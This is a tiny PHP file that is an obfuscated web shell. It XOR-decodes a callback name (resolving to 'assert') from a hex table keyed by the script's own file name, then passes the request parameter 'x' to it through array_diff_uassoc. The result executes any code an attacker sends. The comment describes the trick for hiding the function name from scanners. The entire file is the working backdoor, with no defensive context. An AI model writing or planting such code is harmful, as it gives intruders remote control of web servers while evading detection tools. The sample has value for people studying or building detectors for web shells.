<?php
// the callback name is XORed out of a hex table looked up by the script's own file name and a key
// glued from that name and a literal: neither half is a constant the code holds
$I = substr(__FILE__, -5, -4);
$l = array("q" => "10", "r" => "13", "s" => "12", "t" => "15");
$O = pack("H*", $l[$I] . "3f120b1655") ^ $I . "Land!";
array_diff_uassoc(array($_REQUEST['x'] => ""), array(1), $O);
